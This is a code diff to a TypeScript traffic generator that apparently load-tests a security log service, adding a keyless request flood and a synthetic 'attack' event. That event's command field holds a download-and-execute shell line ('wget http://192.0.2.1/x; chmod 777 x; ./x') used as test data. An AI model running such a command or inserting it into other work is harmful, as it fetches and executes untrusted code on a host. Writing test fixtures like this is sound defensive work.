@@ -26,26 +26,48 @@ function anEvent(): string {
   })
 }
 
-/** @param token of somebody who may read. */
-function kindsOf(token: string): Kind[] {
+/** Fetches a program and runs it: an alert, of a source of its own. */
+function anAttack(): string {
+  sent += 1
+  return JSON.stringify({
+    source_ip: `198.51.${(sent >> 8) & 255}.${sent & 255}`,
+    occurred_at: new Date().toISOString(),
+    event_type: 'command',
+    command: 'wget http://192.0.2.1/x; chmod 777 x; ./x',
+    session: `a${sent}`,
+  })
+}
+
+function kindsOf({ token, sessionIds }: Pick<TrafficOptions, 'token' | 'sessionIds'>): Kind[] {
   const login = () => JSON.stringify({ username: 'admin', password: PASSWORD })
   const reading = { authorization: `Bearer ${token}` }
   const post = { method: 'POST', route: '/log' }
   return [
     { ...post, headers: BY_KEY, body: anEvent },
-    { ...post, headers: BY_KEY, body: anEvent },
+    { ...post, headers: BY_KEY, body: anAttack },
     { ...post, headers: BY_KEY, body: () => 'no JSON' },
     { ...post, headers: JSON_TYPE, body: anEvent },
     { method: 'POST', route: '/services/collector', headers: BY_KEY, body: () => `{"event":${anEvent()}}` },
     { method: 'GET', route: '/sessions', headers: reading },
     { method: 'GET', route: '/dashboard/stats', headers: reading },
     { method: 'POST', route: '/auth/login', headers: JSON_TYPE, body: login },
+    {
+      method: 'POST',
+      route: '/ai/analyze',
+      headers: { ...reading, ...JSON_TYPE },
+      body: () => JSON.stringify({ session_id: sessionIds[sent % sessionIds.length] }),
+    },
   ]
 }
+
+/** What comes without a key in a flood: nothing that an objective may count. */
+const KEYLESS: Kind = { method: 'POST', route: '/log', headers: JSON_TYPE, body: anEvent }
 
 export interface TrafficOptions {
   urls: readonly string[]
   token: string
+  /** Sessions to analyse; at least one. */
+  sessionIds: readonly string[]
   /** Receives a line for each request: what its client saw. */
   clientLog: string
   /** A client leaves after so long without an answer. */
@@ -54,7 +76,7 @@ export interface TrafficOptions {
 
 /** Mixed traffic of impatient clients to all replicas in turn, until `done` says so; resolves when every request has ended. */
 export async function mixedTraffic(options: TrafficOptions, done: () => boolean): Promise<void> {
-  const kinds = kindsOf(options.token)
+  const kinds = kindsOf(options)
   const open = new Set<Promise<void>>()
   for (let n = 0; !done(); n += 1) {
     const url = options.urls[n % options.urls.length] ?? ''
@@ -68,8 +90,21 @@ export async function mixedTraffic(options: TrafficOptions, done: () => boolean)
   await Promise.all(open)
 }
 
+/** Requests without a key, as fast as so many clients can, until `done` says so. */
+export async function keylessFlood(
+  options: TrafficOptions,
+  clients: number,
+  done: () => boolean,
+): Promise<void> {
+  const flood = async (_: unknown, client: number) => {
+    const url = options.urls[client % options.urls.length] ?? ''
+    while (!done()) await ask(url, KEYLESS, options)
+  }
+  await Promise.all(Array.from({ length: clients }, flood))
+}
+
 async function ask(url: string, kind: Kind, { clientLog, patienceMs }: TrafficOptions): Promise<void> {
-  const timestamp = new Date().toISOString()
+  const begun = Date.now()
   const status = await fetch(`${url}${kind.route}`, {
     method: kind.method,
     ...(kind.headers && { headers: kind.headers }),
@@ -81,8 +116,12 @@ async function ask(url: string, kind: Kind, { clientLog, patienceMs }: TrafficOp
       return answer.status
     })
     .catch(() => null)
-  appendFileSync(
-    clientLog,
-    `${JSON.stringify({ timestamp, method: kind.method, route: kind.route, status })}\n`,
-  )
+  const seen = {
+    timestamp: new Date(begun).toISOString(),
+    method: kind.method,
+    route: kind.route,
+    status,
+    duration_ms: Date.now() - begun,
+  }
+  appendFileSync(clientLog, `${JSON.stringify(seen)}\n`)
 }
